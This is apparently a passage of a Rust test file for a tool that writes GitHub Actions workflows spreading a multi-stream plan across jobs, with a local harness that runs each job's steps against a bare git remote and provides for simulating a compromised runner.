//! `streams ci github`: the workflow that spreads a plan over GitHub Actions jobs. Its shape
//! and stability, actionlint on every example plan's workflow, the plans it refuses, and a
//! harness that executes the workflow's `run:` steps job by job in clones of a bare remote, as
//! runners would.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;

use serde_json::Value;

use crate::ci::{actionlint, node_tools};
use crate::common::{TestRepo, agents_dir, streams_bin};

/// Files for the example plans' patterns to match (so checking them warns of nothing).
const FILES: &[(&str, &str)] = &[
    ("Cargo.lock", "# lock file\n"),
    ("README.md", "# webapp\n"),
    ("src/api/login.rs", "pub fn login() {}\n"),
    ("src/db/schema.rs", "pub struct User;\n"),
    ("src/server/main.ts", "export {};\n"),
    ("migrations/001_users.sql", "create table users (id int);\n"),
    ("web/index.html", "<html></html>\n"),
    ("docs/guide.md", "# Guide\n"),
    ("tests/api/login.rs", "#[test] fn login() {}\n"),
];

/// A repository with the example plan `name` written by `streams init --example` and committed.
fn example_repo(name: &str) -> TestRepo {
    let repo = TestRepo::with_files(FILES).with_agent_stubs();
    if name == "script" {
        // script.toml runs a committed, executable script (as its comment says).
        repo.write("scripts/codemod.sh", "#!/bin/sh\nexit 0\n");
        use std::os::unix::fs::PermissionsExt;
        let script = repo.path("scripts/codemod.sh");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    repo.streams(&["init", "--example", name]).assert_code(0);
    repo.commit_all("the plan");
    repo
}

/// What `ci github` says when the streams that runs it was not installed by `cargo install`
/// (the binary under test).
fn not_installed_note() -> String {
    format!(
        "warning: this streams was not installed by `cargo install` (it runs from {}): the workflow installs the release of this version, `cargo install --locked agent-streams@{}`; to install your build instead, give --install (e.g. `--install 'cargo install --locked --git URL --rev COMMIT agent-streams'`)\n",
        streams_bin().display(),
        env!("CARGO_PKG_VERSION")
    )
}

fn yaml(text: &str) -> Value {
    serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("not YAML: {e}\n{text}"))
}

fn readme() -> String {
    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap()
}

// ---------------------------------------------------------------------------------------------
// The file

#[test]
fn the_webapp_workflow_is_the_same_every_time_and_the_readme_shows_it() {
    let repo = example_repo("webapp");
    let first = repo.streams(&["ci", "github"]);
    first.assert_code(0);
    // The binary under test was built, not installed: runners get the release of its version.
    assert_eq!(first.stderr, not_installed_note(), "{first}");
    let second = repo.streams(&["ci", "github"]);
    assert_eq!(first.stdout, second.stdout, "same plan, same bytes");

    // --out writes the same bytes (and makes .github/workflows), saying so on stderr.
    let out = repo.streams(&["ci", "github", "--out", ".github/workflows/streams.yml"]);
    out.assert_code(0);
    assert_eq!(out.stdout, "");
    assert_eq!(
        out.stderr,
        format!(
            "{}wrote .github/workflows/streams.yml: 3 stages, 4 stream jobs\n",
            not_installed_note()
        )
    );
    assert_eq!(repo.read(".github/workflows/streams.yml"), first.stdout);

    insta::assert_snapshot!(first.stdout);
    assert!(
        readme().contains(&format!("```yaml\n{}```\n", first.stdout)),
        "README.md's \"Running on CI machines\" workflow is not what `streams ci github` writes \
         for the webapp example; paste this in:\n{}",
        first.stdout
    );
}

#[test]
fn a_job_per_stream_and_an_integrate_job_per_stage() {
    let repo = example_repo("webapp");
    let out = repo.streams(&["ci", "github"]);
    out.assert_code(0);
    let flow = flow(&out.stdout);
    let jobs = flow.value["jobs"].as_object().unwrap();
    // In the file's order: the order they run in.
    assert_eq!(
        flow.order,
        [
            "plan",
            "stream-db",
            "integrate-0",
            "stream-api",
            "stream-ui",
            "integrate-1",
            "stream-docs",
            "integrate-2"
        ]
    );
    // No matrix: the entries of one would share one set of outputs, any of them could report
    // another stream's work as its own.
    for (id, job) in jobs {
        assert!(job.get("strategy").is_none(), "{id}");
    }
    let stages = [vec!["db"], vec!["api", "ui"], vec!["docs"]];
    for (k, stage) in stages.iter().enumerate() {
        for stream in stage {
            let job = &jobs[&format!("stream-{stream}")];
            let needs = if k == 0 {
                serde_json::json!(["plan"])
            } else {
                serde_json::json!(["plan", format!("integrate-{}", k - 1)])
            };
            assert_eq!(job["needs"], needs, "{stream}");
            assert_eq!(
                job["outputs"]["manifest"], "${{ steps.run.outputs.manifest }}",
                "{stream}"
            );
            let env = step_env(job);
            assert_eq!(env["STREAM"], *stream);
            if k > 0 {
                assert_eq!(
                    env["START"],
                    format!("${{{{ needs.integrate-{}.outputs.tip }}}}", k - 1),
                    "a stage starts from the tip the integrate job before reported"
                );
            }
        }
        let integrate = &jobs[&format!("integrate-{k}")];
        let mut needs = vec!["plan".to_string()];
        if k > 0 {
            needs.push(format!("integrate-{}", k - 1));
        }
        needs.extend(stage.iter().map(|s| format!("stream-{s}")));
        assert_eq!(integrate["needs"], serde_json::json!(needs));
        assert!(
            integrate["if"].as_str().unwrap().contains("!cancelled()"),
            "integrate runs after a failed stream job, to report it"
        );
        assert_eq!(
            integrate["outputs"]["tip"],
            "${{ steps.integrate.outputs.tip }}"
        );
        // Each stream's manifest comes from its own job's output, under its own name.
        let env = step_env(integrate);
        let manifests: Vec<&str> = env
            .iter()
            .filter(|(k, _)| k.starts_with("MANIFEST_"))
            .map(|(_, v)| v.as_str())
            .collect();
        let expected: Vec<String> = stage
            .iter()
            .map(|s| format!("{s}=${{{{ needs.stream-{s}.outputs.manifest }}}}"))
            .collect();
        assert_eq!(manifests, expected);
    }
    // Every job checks out the whole history, and keeps what it leaves in an artifact of its
    // own that a re-run of the job may replace (upload-artifact@v4 refuses a name twice).
    let mut artifacts = Vec::new();
    for (id, job) in jobs {
        let checkout = &job["steps"][0];
        assert_eq!(checkout["uses"], "actions/checkout@v4", "{id}");
        assert_eq!(checkout["with"]["fetch-depth"], 0, "{id}");
        for step in job["steps"].as_array().unwrap() {
            if step["uses"] == "actions/upload-artifact@v4" {
                assert_eq!(step["with"]["overwrite"], true, "{id}");
                artifacts.push(step["with"]["name"].as_str().unwrap().to_string());
            }
        }
    }
    artifacts.sort();
    assert_eq!(
        artifacts,
        [
            "integrate-0",
            "integrate-1",
            "integrate-2",
            "stream-api",
            "stream-db",
            "stream-docs",
            "stream-ui",
            "streams-plan"
        ]
    );
    assert_eq!(
        jobs["plan"]["outputs"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        ["base", "run-id"]
    );
}

/// The plan's `jobs` bounds how many stream jobs of a stage run at once: with `jobs = 2`, the
/// third stream's job waits for the first's (however it ended). Job ids are GitHub's: other
/// characters become `_`, and a second id that would be the same gets a number.
#[test]
fn stream_jobs_run_in_lanes_of_the_plans_jobs_and_have_ids_github_takes() {
    let repo = TestRepo::with_files(&[("x/a", "a\n")]);
    let mut plan =
        "[plan]\nname = \"p\"\njobs = 2\nagent = [\"act\", \"write\", \"{stream}/y\", \"y\"]\n"
            .to_string();
    for name in ["a.b", "a_b", "c", "d"] {
        plan.push_str(&format!(
            "[[stream]]\nname = \"{name}\"\nowns = [\"{name}/**\"]\ntasks = [\"x\"]\n"
        ));
    }
    repo.write("streams.toml", &plan);
    let out = repo.streams(&["ci", "github"]);
    out.assert_code(0);
    let flow = flow(&out.stdout);
    let jobs = &flow.value["jobs"];
    assert_eq!(
        flow.order,
        [
            "plan",
            "stream-a_b",
            "stream-a_b-2",
            "stream-c",
            "stream-d",
            "integrate-0"
        ]
    );
    assert_eq!(step_env(&jobs["stream-a_b-2"])["STREAM"], "a_b");
    assert_eq!(jobs["stream-a_b"]["needs"], serde_json::json!(["plan"]));
    assert_eq!(
        jobs["stream-c"]["needs"],
        serde_json::json!(["plan", "stream-a_b"])
    );
    assert_eq!(
        jobs["stream-d"]["needs"],
        serde_json::json!(["plan", "stream-a_b-2"])
    );
    assert_eq!(
        jobs["stream-d"]["if"],
        "${{ !cancelled() && needs.plan.result == 'success' }}"
    );
    assert!(jobs["stream-a_b"].get("if").is_none());
    // The harness runs that condition as GitHub would: after a failed lane, still.
    let failed = |ok| {
        Some(JobRun {
            ok,
            outputs: BTreeMap::new(),
            log: String::new(),
            runners: Vec::new(),
        })
    };
    let needs: BTreeMap<String, Option<JobRun>> = [
        ("plan".to_string(), failed(true)),
        ("stream-a_b-2".to_string(), failed(false)),
    ]
    .into();
    assert!(job_runs(&jobs["stream-d"], &needs));
    let needs: BTreeMap<String, Option<JobRun>> = [
        ("plan".to_string(), failed(false)),
        ("stream-a_b-2".to_string(), failed(true)),
    ]
    .into();
    assert!(!job_runs(&jobs["stream-d"], &needs));
}

/// The `env` of every step of `job` that has one, merged.
fn step_env(job: &Value) -> BTreeMap<String, String> {
    let mut env = BTreeMap::new();
    for step in job["steps"].as_array().unwrap() {
        if let Some(vars) = step["env"].as_object() {
            for (k, v) in vars {
                env.insert(k.clone(), v.as_str().unwrap_or_default().to_string());
            }
        }
    }
    env
}

#[test]
fn the_agents_secrets_reach_the_stream_jobs_by_name_and_nothing_else() {
    let repo = example_repo("agents");
    let out = repo.streams(&[
        "ci",
        "github",
        "--secret",
        "NPM_TOKEN",
        "--setup",
        "sudo apt-get install -y ripgrep",
        "--install",
        "cargo install --locked --git https://example.com/streams streams",
    ]);
    out.assert_code(0);
    let workflow = yaml(&out.stdout);
    // agents.toml runs claude and codex: their keys, and the one asked for.
    let secrets = |job: &Value| -> Vec<String> {
        step_env(job)
            .into_iter()
            .filter(|(_, v)| v.contains("secrets."))
            .map(|(k, v)| {
                assert_eq!(v, format!("${{{{ secrets.{k} }}}}"), "passed by name");
                k
            })
            .collect()
    };
    for (id, job) in workflow["jobs"].as_object().unwrap() {
        let expected: &[&str] = if id.starts_with("stream-") {
            &["ANTHROPIC_API_KEY", "NPM_TOKEN", "OPENAI_API_KEY"]
        } else {
            &[]
        };
        assert_eq!(secrets(job), expected, "{id}");
        let runs: Vec<&str> = job["steps"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| s["run"].as_str())
            .collect();
        let all = runs.join("");
        for install in [
            "cargo install --locked --git https://example.com/streams streams\n",
            "npm install --global @anthropic-ai/claude-code\nnpm install --global @openai/codex\n",
            "sudo apt-get install -y ripgrep\n",
        ] {
            assert!(all.contains(install), "{id} lacks {install:?}");
        }
    }
    // The header says how to write the same file again.
    assert!(
        out.stdout.contains("# Written by `streams ci github --install 'cargo install --locked --git https://example.com/streams streams' --setup 'sudo apt-get install -y ripgrep' --secret NPM_TOKEN`."),
        "{}",
        out.stdout
    );
}

#[test]
fn plans_that_cannot_be_spread_are_refused_and_nothing_is_written() {
    let repo = TestRepo::with_files(&[("a/x", "x\n"), ("b/x", "x\n")]);
    repo.write(
        "streams.toml",
        r#"
[plan]
name = "p"
jobs = 3
sync = "task"
agent = ["act", "write", "{stream}.txt", "x"]

[plan.limits]
gpu = 1

[[stream]]
name = "a"
owns = ["a/**"]
group = "gpu"
tasks = ["x"]

[[stream]]
name = "b"
owns = ["b/**"]
group = "gpu"
tasks = ["x"]
"#,
    );
    let out = repo.streams(&[
        "ci",
        "github",
        "--secret",
        "GITHUB_TOKEN",
        "--out",
        ".github/workflows/streams.yml",
    ]);
    out.assert_code(2);
    assert_eq!(out.stdout, "");
    assert!(!repo.path(".github").exists(), "nothing written");
    insta::assert_snapshot!(out.stderr_redacted());
}

#[test]
fn every_example_plans_workflow_passes_actionlint() {
    let Some(tools) = node_tools("actionlint") else {
        return;
    };
    let examples = streams::authoring::examples::EXAMPLES;
    assert!(examples.len() >= 4);
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    for example in examples {
        let repo = example_repo(example.name);
        let out = repo.streams(&["ci", "github"]);
        out.assert_code(0);
        let file = dir.path().join(format!("{}.yml", example.name));
        std::fs::write(&file, &out.stdout).unwrap();
        files.push(file);
    }
    // One file per process: the WebAssembly build of actionlint 2.0.6 traps ("unreachable")
    // when one linter is given several workflows of this size.
    for file in &files {
        let (clean, findings) = actionlint(&tools, &[file.as_path()]);
        assert!(clean, "actionlint finds problems: {findings:#}");
    }

    // It does look: a job output that does not exist is a finding.
    let text = std::fs::read_to_string(&files[0]).unwrap();
    let broken = text.replace("needs.plan.outputs.run-id", "needs.plan.outputs.run_id");
    assert_ne!(broken, text);
    let copy = dir.path().join("broken.yml");
    std::fs::write(&copy, broken).unwrap();
    let (clean, findings) = actionlint(&tools, &[&copy]);
    assert!(!clean);
    assert!(findings.to_string().contains("run_id"), "{findings:#}");
}

// ---------------------------------------------------------------------------------------------
// Running the workflow: every job's `run:` steps, in dependency order, each job in a clone of
// its own (a "runner" with its own HOME) of one bare remote.

/// A bare repository standing in for GitHub, pushed from `repo`'s main.
fn bare_remote(repo: &TestRepo) -> PathBuf {
    let bare = repo.home.parent().unwrap().join("remote.git");
    repo.git(&["init", "-q", "--bare", bare.to_str().unwrap()]);
    repo.git(&["push", "-q", bare.to_str().unwrap(), "main"]);
    bare
}

/// A fresh runner: an empty repository with its own HOME, checked out as actions/checkout
/// does with `fetch-depth: 0` (every branch as origin/*, tags, then the branch itself).
fn runner(remote: &Path, branch: &str) -> TestRepo {
    let machine = TestRepo::empty();
    machine.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    machine.git(&[
        "fetch",
        "-q",
        "origin",
        "+refs/heads/*:refs/remotes/origin/*",
        "+refs/tags/*:refs/tags/*",
    ]);
    machine.git(&[
        "checkout",
        "-q",
        "--force",
        "-B",
        branch,
        &format!("refs/remotes/origin/{branch}"),
    ]);
    machine
}

/// What a job (or one entry of a matrix job) left: whether it succeeded, its outputs, what its
/// steps printed, and its runners (kept, so that a test can read what a job left there).
#[derive(Clone)]
struct JobRun {
    ok: bool,
    outputs: BTreeMap<String, String>,
    log: String,
    runners: Vec<Arc<TestRepo>>,
}

/// A compromised runner: the job that runs `stream` runs `script` (bash, in its checkout, with
/// the environment of the step that ran the stream) after that step, whatever it ended with.
/// It holds what every job holds: the one push credential (here: the remote is a path it can
/// push to), and its own job's outputs (`$GITHUB_OUTPUT` is the stream step's).
struct Hostile<'a> {
    stream: &'a str,
    script: &'a str,
}

/// The values `${{ ... }}` expressions of one job see.
struct Scope<'a> {
    run_id: &'a str,
    matrix_stream: Option<&'a str>,
    needs: &'a BTreeMap<String, JobRun>,
    steps: BTreeMap<String, BTreeMap<String, String>>,
}

impl Scope<'_> {
    fn value(&self, expr: &str) -> String {
        let parts: Vec<&str> = expr.split('.').collect();
        match parts.as_slice() {
            ["github", "run_id"] => self.run_id.to_string(),
            ["github", "run_attempt"] => "1".to_string(),
            ["matrix", "stream"] => self.matrix_stream.expect("a matrix job").to_string(),
            // No secrets in tests: an unset secret is empty on GitHub too.
            ["secrets", _] => String::new(),
            // An output its job never set is empty, as on GitHub.
            ["needs", job, "outputs", key] => self
                .needs
                .get(*job)
                .unwrap_or_else(|| panic!("`{expr}`: {job} is not a job this one needs"))
                .outputs
                .get(*key)
                .cloned()
                .unwrap_or_default(),
            ["steps", id, "outputs", key] => self
                .steps
                .get(*id)
                .and_then(|o| o.get(*key))
                .cloned()
                .unwrap_or_default(),
            _ => panic!("the harness does not know the expression `{expr}`"),
        }
    }

    /// `text` with every `${{ expr }}` replaced by its value.
    fn expand(&self, text: &str) -> String {
        let mut out = String::new();
        let mut rest = text;
        while let Some(start) = rest.find("${{") {
            out.push_str(&rest[..start]);
            let end = rest[start..].find("}}").expect("a closed expression") + start;
            out.push_str(&self.value(rest[start + 3..end].trim()));
            rest = &rest[end + 2..];
        }
        out.push_str(rest);
        out
    }
}

/// A job's result as `needs.<job>.result` says it.
fn result_of(run: &Option<JobRun>) -> &'static str {
    match run {
        None => "skipped",
        Some(r) if r.ok => "success",
        Some(_) => "failure",
    }
}

/// Whether a job runs, given how the jobs it needs went: GitHub's rule for the conditions the
/// generator writes, `term && term ...` of `!cancelled()` and `needs.<job>.result ==` or `!=`
/// a quoted result (an unknown term fails the test). Without a status function, GitHub adds
/// `success()`: every job needed succeeded.
fn job_runs(job: &Value, needs: &BTreeMap<String, Option<JobRun>>) -> bool {
    let all_succeeded = needs.values().all(|r| result_of(r) == "success");
    let Some(condition) = job["if"].as_str() else {
        return all_succeeded;
    };
    let inner = condition
        .strip_prefix("${{ ")
        .and_then(|c| c.strip_suffix(" }}"))
        .unwrap_or_else(|| panic!("the harness does not know the condition {condition}"));
    let mut status_function = false;
    let mut holds = true;
    for term in inner.split(" && ") {
        if term == "!cancelled()" {
            status_function = true;
            continue;
        }
        let (lhs, equal, rhs) = if let Some((l, r)) = term.split_once(" == ") {
            (l, true, r)
        } else if let Some((l, r)) = term.split_once(" != ") {
            (l, false, r)
        } else {
            panic!("the harness does not know the term {term:?} of {condition}")
        };
        let job = lhs
            .strip_prefix("needs.")
            .and_then(|l| l.strip_suffix(".result"))
            .unwrap_or_else(|| panic!("the harness does not know {lhs:?} in {condition}"));
        let want = rhs.trim_matches('\'');
        let result = result_of(
            needs
                .get(job)
                .unwrap_or_else(|| panic!("{condition}: {job} is not needed")),
        );
        holds &= (result == want) == equal;
    }
    holds && (status_function || all_succeeded)
}

/// Runs one job (one matrix entry of it) on a fresh runner, as GitHub would: steps in order,
/// each `run:` under `bash -eo pipefail` with the workflow's, job's and step's `env`, stopping
/// at the first failing step; its outputs are evaluated at the end, whatever it ended with.
/// The install steps are replaced by the built binary on PATH; uploads are skipped.
fn run_job(
    workflow: &Value,
    id: &str,
    remote: &Path,
    scope_base: (&str, &BTreeMap<String, JobRun>),
    matrix_stream: Option<&str>,
    branch: &str,
    hostile: Option<&Hostile>,
) -> JobRun {
    let job = &workflow["jobs"][id];
    let machine = runner(remote, branch);
    let mut scope = Scope {
        run_id: scope_base.0,
        matrix_stream,
        needs: scope_base.1,
        steps: BTreeMap::new(),
    };
    let mut log = String::new();
    let bin_dir = streams_bin().parent().unwrap().to_path_buf();
    let path = format!(
        "{}:{}:{}",
        bin_dir.display(),
        agents_dir().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut ok = true;
    for (n, step) in job["steps"].as_array().unwrap().iter().enumerate() {
        if let Some(uses) = step["uses"].as_str() {
            if uses.starts_with("actions/checkout@") || uses.starts_with("actions/upload-artifact@")
            {
                // Checked out above; artifacts are GitHub's business.
                continue;
            }
            panic!("the harness does not know the action {uses}");
        }
        if !ok {
            break;
        }
        let name = step["name"].as_str().unwrap_or_default();
        if name == "Install streams" || name == "Install the agents" {
            continue;
        }
        let script = step["run"].as_str().expect("a run step");
        let dir = machine.home.join(format!("step-{n}"));
        std::fs::create_dir_all(&dir).unwrap();
        let script_file = dir.join("script.sh");
        std::fs::write(&script_file, script).unwrap();
        let output_file = dir.join("output");
        std::fs::write(&output_file, "").unwrap();
        let mut env = BTreeMap::new();
        for scope_env in [&workflow["env"], &job["env"], &step["env"]] {
            for (k, v) in scope_env.as_object().into_iter().flatten() {
                let v = match v {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                env.insert(k.clone(), scope.expand(&v));
            }
        }
        let bash = |script_file: &Path| {
            let mut cmd = Command::new("bash");
            cmd.args(["--noprofile", "--norc", "-eo", "pipefail"])
                .arg(script_file)
                .current_dir(&machine.root)
                .stdin(Stdio::null());
            machine.hermetic(&mut cmd);
            cmd.env("PATH", &path)
                .env("GITHUB_OUTPUT", &output_file)
                .env("GITHUB_WORKSPACE", &machine.root)
                .env("CI", "true")
                .envs(&env);
            cmd.output().unwrap()
        };
        let out = bash(&script_file);
        log.push_str(&format!(
            "--- {id} {} step {name:?}: {}\n{}{}",
            matrix_stream.unwrap_or(""),
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ));
        if let Some(hostile) =
            hostile.filter(|h| env.get("STREAM").map(String::as_str) == Some(h.stream))
        {
            let file = dir.join("hostile.sh");
            std::fs::write(&file, hostile.script).unwrap();
            let forged = bash(&file);
            log.push_str(&format!(
                "--- {id} hostile: {}\n{}{}",
                forged.status,
                String::from_utf8_lossy(&forged.stdout),
                String::from_utf8_lossy(&forged.stderr)
            ));
            assert!(forged.status.success(), "the hostile script failed:\n{log}");
        }
        let outputs: BTreeMap<String, String> = std::fs::read_to_string(&output_file)
            .unwrap()
            .lines()
            .filter_map(|l| l.split_once('='))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        if let Some(step_id) = step["id"].as_str() {
            scope.steps.insert(step_id.to_string(), outputs);
        }
        ok = out.status.success();
    }
    let outputs = job["outputs"]
        .as_object()
        .into_iter()
        .flatten()
        .map(|(k, v)| (k.clone(), scope.expand(v.as_str().unwrap())))
        .collect();
    JobRun {
        ok,
        outputs,
        log,
        runners: vec![Arc::new(machine)],
    }
}

/// A workflow as the harness runs it: the parsed file, and its job ids in the file's order.
struct Flow {
    value: Value,
    order: Vec<String>,
}

fn flow(text: &str) -> Flow {
    let value = yaml(text);
    let mut order: Vec<String> = value["jobs"].as_object().unwrap().keys().cloned().collect();
    order.sort_by_key(|id| text.find(&format!("\n  {id}:\n")).unwrap());
    Flow { value, order }
}

/// Runs the whole workflow: each job once the jobs it needs are done, the first such in the
/// file's order, one at a time (so a hostile job's pushes land at a known point); the entries
/// of a matrix one after another, each on a runner of its own. A matrix job's outputs are its
/// entries' merged, as GitHub merges them: in the order they finish, a later entry's
/// non-empty value replaces an earlier one's. Returns each job's result (`None`: skipped).
fn run_workflow(
    flow: &Flow,
    remote: &Path,
    run_id: &str,
    hostile: Option<&Hostile>,
) -> BTreeMap<String, Option<JobRun>> {
    let workflow = &flow.value;
    let jobs = &workflow["jobs"];
    let mut done: BTreeMap<String, Option<JobRun>> = BTreeMap::new();
    while done.len() < flow.order.len() {
        let id = flow
            .order
            .iter()
            .find(|id| {
                !done.contains_key(*id)
                    && needs(&jobs[id.as_str()])
                        .iter()
                        .all(|n| done.contains_key(n.as_str()))
            })
            .expect("the jobs' needs form no cycle")
            .clone();
        let job = &jobs[id.as_str()];
        let job_needs: BTreeMap<String, Option<JobRun>> = needs(job)
            .into_iter()
            .map(|n| (n.clone(), done[&n].clone()))
            .collect();
        if !job_runs(job, &job_needs) {
            done.insert(id, None);
            continue;
        }
        let ran: BTreeMap<String, JobRun> = job_needs
            .into_iter()
            .filter_map(|(k, v)| v.map(|v| (k, v)))
            .collect();
        let result = match job["strategy"]["matrix"]["stream"].as_array() {
            None => run_job(workflow, &id, remote, (run_id, &ran), None, "main", hostile),
            Some(streams) => {
                let entries: Vec<JobRun> = streams
                    .iter()
                    .map(|stream| {
                        run_job(
                            workflow,
                            &id,
                            remote,
                            (run_id, &ran),
                            stream.as_str(),
                            "main",
                            hostile,
                        )
                    })
                    .collect();
                let mut outputs = BTreeMap::new();
                for entry in &entries {
                    for (k, v) in &entry.outputs {
                        if !v.is_empty() || !outputs.contains_key(k) {
                            outputs.insert(k.clone(), v.clone());
                        }
                    }
                }
                // A matrix job succeeds when every entry does.
                JobRun {
                    ok: entries.iter().all(|e| e.ok),
                    outputs,
                    log: entries.iter().map(|e| e.log.as_str()).collect(),
                    runners: entries.iter().flat_map(|e| e.runners.clone()).collect(),
                }
            }
        };
        done.insert(id, Some(result));
    }
    done
}

fn needs(job: &Value) -> Vec<String> {
    match &job["needs"] {
        Value::Null => Vec::new(),
        Value::String(one) => vec![one.clone()],
        Value::Array(many) => many
            .iter()
            .map(|n| n.as_str().unwrap().to_string())
            .collect(),
        other => panic!("needs: {other}"),
    }
}

fn logs(results: &BTreeMap<String, Option<JobRun>>) -> String {
    results.values().flatten().map(|r| r.log.as_str()).collect()
}

/// Stage 0: `db` and `assets`; stage 1: `api` and `ui` after `db`; stage 2: `docs` after
/// `api`. Each agent that depends on another's work requires it (`require`), so a stream job
/// that did not start from its stage's integrated tip fails.
const SPREAD_PLAN: &str = r##"
[plan]
name = "web"
base = "main"
jobs = 2

[[stream]]
name = "db"
owns = ["src/db/**"]
agent = ["act", "write", "src/db/schema.sql", "create table users (id int);"]
tasks = ["Add the users table"]

[[stream]]
name = "assets"
owns = ["assets/**"]
agent = ["act", "write", "assets/logo.svg", "<svg/>"]
tasks = ["Draw the logo"]

[[stream]]
name = "api"
owns = ["src/api/**"]
depends_on = ["db"]
agent = ["act", "require", "src/db/schema.sql", "write", "src/api/login.rs", "pub fn login() {}", "append", "src/api/login.rs", "{task}"]
tasks = ["// login", "// logout"]

[[stream]]
name = "ui"
owns = ["web/**"]
depends_on = ["db"]
agent = ["act", "require", "src/db/schema.sql", "write", "web/login.html", "<form></form>"]
tasks = ["Add the login form"]

[[stream]]
name = "docs"
owns = ["docs/**"]
depends_on = ["api"]
agent = ["act", "require", "src/api/login.rs", "write", "docs/login.md", "# Logging in"]
tasks = ["Document logging in"]
"##;

fn spread_repo() -> (TestRepo, PathBuf, Flow) {
    spread_repo_of(SPREAD_PLAN)
}

/// A repository holding `plan` and the workflow `streams ci github` writes for it, committed
/// and pushed to a bare remote.
fn spread_repo_of(plan: &str) -> (TestRepo, PathBuf, Flow) {
    let repo = TestRepo::with_files(&[("README.md", "# web\n")]);
    repo.write("streams.toml", plan);
    let out = repo.streams(&["ci", "github", "--out", ".github/workflows/streams.yml"]);
    out.assert_code(0);
    repo.commit_all("the plan and its workflow");
    let workflow = flow(&repo.read(".github/workflows/streams.yml"));
    let remote = bare_remote(&repo);
    (repo, remote, workflow)
}

/// jq reads `streams plan --json` in the plan job (GitHub's runners have it; `.ci/run`
/// installs it).
fn have_jq() -> bool {
    let found = Command::new("jq")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        crate::ci::missing_tool("jq is not installed (apt-get install jq)");
    }
    found
}

#[test]
fn the_plan_job_pins_the_base_and_run_id_and_stops_a_stale_workflow() {
    if !have_jq() {
        return;
    }
    let (repo, remote, workflow) = spread_repo();
    let none = BTreeMap::new();
    let plan = run_job(
        &workflow.value,
        "plan",
        &remote,
        ("4242", &none),
        None,
        "main",
        None,
    );
    assert!(plan.ok, "{}", plan.log);
    assert_eq!(plan.outputs["base"], repo.git(&["rev-parse", "main"]));
    assert_eq!(plan.outputs["run-id"], "4242-1", "the run id and attempt");

    // Dispatched from another branch, the checkout has main only as origin/main: the plan's
    // base (`main`) still resolves, to the same commit.
    repo.git(&["push", "-q", remote.to_str().unwrap(), "main:feature"]);
    let elsewhere = run_job(
        &workflow.value,
        "plan",
        &remote,
        ("4242", &none),
        None,
        "feature",
        None,
    );
    assert!(elsewhere.ok, "{}", elsewhere.log);
    assert_eq!(elsewhere.outputs["base"], plan.outputs["base"]);

    // The plan gains a stream in stage 1; the workflow is not written again.
    let mut text = SPREAD_PLAN.to_string();
    text.push_str(
        "\n[[stream]]\nname = \"mail\"\nowns = [\"mail/**\"]\ndepends_on = [\"db\"]\nagent = [\"act\", \"write\", \"mail/x\", \"x\"]\ntasks = [\"x\"]\n",
    );
    repo.write("streams.toml", &text);
    repo.commit_all("a stream more");
    repo.git(&["push", "-q", remote.to_str().unwrap(), "main"]);
    let stale = run_job(
        &workflow.value,
        "plan",
        &remote,
        ("4243", &none),
        None,
        "main",
        None,
    );
    assert!(!stale.ok);
    assert!(
        stale.log.contains(
            "::error::the plan's stages are [[\"db\",\"assets\"],[\"api\",\"ui\",\"mail\"],[\"docs\"]], this workflow's [[\"db\",\"assets\"],[\"api\",\"ui\"],[\"docs\"]]: write it again with streams ci github"
        ),
        "{}",
        stale.log
    );
}

#[test]
fn the_workflow_drives_a_whole_run_across_runners() {
    if !have_jq() {
        return;
    }
    let (repo, remote, workflow) = spread_repo();
    let results = run_workflow(&workflow, &remote, "7001", None);
    for (id, result) in &results {
        assert!(
            result.as_ref().is_some_and(|r| r.ok),
            "job {id} did not succeed:\n{}",
            logs(&results)
        );
    }

    // On the remote: a manifest per stream and a tip per stage, all under the run id the plan
    // job pinned (`<run_id>-<run_attempt>`).
    let remote_refs = |prefix: &str| -> Vec<String> {
        repo.git(&[
            "--git-dir",
            remote.to_str().unwrap(),
            "for-each-ref",
            "--format=%(refname)",
            prefix,
        ])
        .lines()
        .map(|r| r.strip_prefix(prefix).unwrap().to_string())
        .collect()
    };
    assert_eq!(
        remote_refs("refs/streams/web/stages/7001-1/"),
        ["0", "1", "2"]
    );
    assert_eq!(
        remote_refs("refs/streams/web/manifests/7001-1/"),
        ["api", "assets", "db", "docs", "ui"]
    );

    // The integration branch on the remote holds the same tree as a run of the same plan on
    // one machine, from the same base.
    let integration = "refs/heads/streams/web/integration";
    let spread_tree = repo.git(&[
        "--git-dir",
        remote.to_str().unwrap(),
        "rev-parse",
        &format!("{integration}^{{tree}}"),
    ]);
    let local = runner(&remote, "main");
    local.streams(&["run"]).assert_code(0);
    assert_eq!(
        spread_tree,
        local.git(&["rev-parse", &format!("{integration}^{{tree}}")]),
        "{}",
        logs(&results)
    );
    let files = local.git(&["ls-tree", "-r", "--name-only", integration]);
    for file in [
        "src/db/schema.sql",
        "assets/logo.svg",
        "src/api/login.rs",
        "web/login.html",
        "docs/login.md",
    ] {
        assert!(files.lines().any(|f| f == file), "{file} missing:\n{files}");
    }
}

#[test]
fn a_failed_stream_job_is_reported_by_its_integrate_job_and_later_stages_wait() {
    if !have_jq() {
        return;
    }
    let repo = TestRepo::with_files(&[("README.md", "# web\n")]);
    // `assets` fails in stage 0; `db` beside it succeeds.
    let plan = SPREAD_PLAN.replace(
        r#"agent = ["act", "write", "assets/logo.svg", "<svg/>"]"#,
        r#"agent = ["act", "say", "out of ink", "exit", "3"]"#,
    );
    assert_ne!(plan, SPREAD_PLAN);
    repo.write("streams.toml", &plan);
    repo.streams(&["ci", "github", "--out", ".github/workflows/streams.yml"])
        .assert_code(0);
    repo.commit_all("the plan and its workflow");
    let workflow = flow(&repo.read(".github/workflows/streams.yml"));
    let remote = bare_remote(&repo);
    let results = run_workflow(&workflow, &remote, "7002", None);
    let outcome = |id: &str| match &results[id] {
        None => "skipped",
